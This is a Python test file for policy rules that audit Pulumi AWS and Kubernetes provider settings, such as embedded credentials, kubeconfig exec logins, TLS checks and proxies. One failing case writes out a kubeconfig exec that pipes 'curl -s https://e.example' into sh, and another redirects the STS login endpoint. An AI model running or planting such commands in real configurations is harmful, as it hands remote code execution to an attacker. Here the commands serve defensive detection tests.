import json
from dataclasses import replace

from policies.engine.graph import UNKNOWN
from policies.rules.platform.providers import AWS, KUBERNETES, PLATFORM, RULES
from tests.policies.cases import OURS, Case, RuleCases, cases_test, resource


def _aws(**inputs):
    return resource(AWS, inputs)


def _kubernetes(user=None, cluster=None, **inputs):
    config = {
        "users": [
            {"name": "deploy", "user": user or {"exec": {"command": "aws", "args": ["eks", "get-token"]}}}
        ],
        "clusters": [
            {"name": "c", "cluster": cluster or {"server": "https://c", "certificate-authority": "x"}}
        ],
    }
    return resource(KUBERNETES, {"kubeconfig": json.dumps(config), **inputs})


def _exec(command, *args, **more):
    return _kubernetes({"exec": {"command": command, "args": list(args), **more}})


_ALLOWED = "one of aws, aws-iam-authenticator, gke-gcloud-auth-plugin, kubelogin, kubectl-oidc_login"
_EXEC = "kubeconfig.users[0].user.exec"
_KEPT = replace(_kubernetes(kubeconfig=UNKNOWN), secret_properties=frozenset({"kubeconfig"}))
"""As an exported stack shows what Pulumi keeps encrypted."""

_UNREAD = [
    Case(_kubernetes(kubeconfig=UNKNOWN)),
    Case(_kubernetes(kubeconfig="{")),
    Case(_kubernetes(kubeconfig=[])),
    Case(_KEPT, [OURS]),
]

CASES = {
    "aws-providers-hold-no-credentials": RuleCases(
        passing=[Case(_aws(region="eu-central-1"))],
        failing=[
            Case(
                _aws(accessKey="a", secretKey="b"),
                findings=[
                    "accessKey: the provider holds a credential",
                    "secretKey: the provider holds a credential",
                ],
            ),
            Case(_aws(token="t"), findings=["token: the provider holds a credential"]),  # noqa: S106 no token
        ],
        not_applicable=[Case(_kubernetes())],
        undecided=[Case(_aws(secretKey=UNKNOWN))],
    ),
    "aws-providers-name-their-account": RuleCases(
        passing=[
            Case(_aws(allowedAccountIds='["111122223333"]')),
            Case(_aws(allowedAccountIds=["111122223333"])),
            Case(_aws(assumeRole='{"roleArn": "arn:aws:iam::111122223333:role/deploy"}')),
        ],
        failing=[
            Case(
                _aws(**inputs),
                findings=["allowedAccountIds: is empty: works in whatever account the credentials belong to"],
            )
            for inputs in ({}, {"allowedAccountIds": "[]"})
        ],
        not_applicable=[Case(_kubernetes())],
        undecided=[Case(_aws(allowedAccountIds=UNKNOWN)), Case(_aws(allowedAccountIds="[1"))],
    ),
    "kubernetes-providers-hold-no-credentials": RuleCases(
        passing=[Case(_kubernetes()), Case(_kubernetes(kubeconfig="")), Case(_KEPT)],
        failing=[
            Case(
                _kubernetes({"token": "t"}),
                findings=["kubeconfig.users[0].user.token: the kubeconfig holds a credential of deploy"],
            ),
            Case(
                _kubernetes({"client-key-data": "k", "password": "p"}),
                findings=[
                    "kubeconfig.users[0].user.client-key-data: the kubeconfig holds a credential of deploy",
                    "kubeconfig.users[0].user.password: the kubeconfig holds a credential of deploy",
                ],
            ),
        ],
        not_applicable=[Case(_aws())],
        undecided=_UNREAD,
    ),
    "kubernetes-providers-run-a-login": RuleCases(
        passing=[
            Case(_exec("aws", "--region", "eu-central-1", "eks", "get-token", "--cluster-name", "c")),
            Case(_exec("kubelogin", "get-token", "--login", "azurecli")),
            Case(_exec("gke-gcloud-auth-plugin")),
            Case(_kubernetes({"client-certificate": "c"})),
            Case(_KEPT),
        ],
        failing=[
            Case(
                _exec("/bin/sh", "-c", "curl -s https://e.example | sh"),
                findings=[
                    f"{_EXEC}.command: runs at every call, with all that the deployer may do; {_ALLOWED}"
                ],
            ),
            Case(
                _exec("aws", "iam", "create-user"),
                findings=[f"{_EXEC}.args: aws does something else than to hand out a token; eks get-token"],
            ),
            Case(
                _exec(
                    "aws", "eks", "get-token", env=[{"name": "AWS_ENDPOINT_URL_STS", "value": "https://e"}]
                ),
                findings=[f"{_EXEC}.env[0]: AWS_ENDPOINT_URL_STS sends the login somewhere else"],
            ),
        ],
        not_applicable=[Case(_aws())],
        undecided=_UNREAD,
    ),
    "kubernetes-providers-check-the-api": RuleCases(
        passing=[Case(_kubernetes()), Case(_KEPT)],
        failing=[
            Case(
                _kubernetes(cluster={"server": "https://c", "insecure-skip-tls-verify": True}),
                findings=[
                    "kubeconfig.clusters[0].cluster.insecure-skip-tls-verify: does not check who answers"
                ],
            ),
            Case(
                _kubernetes(cluster={"server": "http://c"}),
                findings=["kubeconfig.clusters[0].cluster.server: talks to the API in plain text"],
            ),
            Case(
                _kubernetes(cluster={"server": "https://c", "proxy-url": "https://e.example"}),
                findings=[
                    "kubeconfig.clusters[0].cluster.proxy-url: everything that is said to the API passes by it"
                ],
            ),
        ],
        not_applicable=[Case(_aws())],
        undecided=_UNREAD,
    ),
    "kubernetes-providers-know-their-cluster": RuleCases(
        passing=[Case(_kubernetes(clusterIdentifier="arn:aws:eks:eu-central-1:111122223333:cluster/c"))],
        failing=[
            Case(
                _kubernetes(**inputs),
                findings=[
                    (
                        "clusterIdentifier: is not set: a new endpoint or kubeconfig replaces every object in the "
                        "cluster"
                    )
                ],
            )
            for inputs in ({}, {"clusterIdentifier": ""})
        ],
        not_applicable=[Case(_aws())],
        undecided=[Case(_kubernetes(clusterIdentifier=UNKNOWN))],
    ),
}

test_cases = cases_test((*RULES, *PLATFORM), CASES)
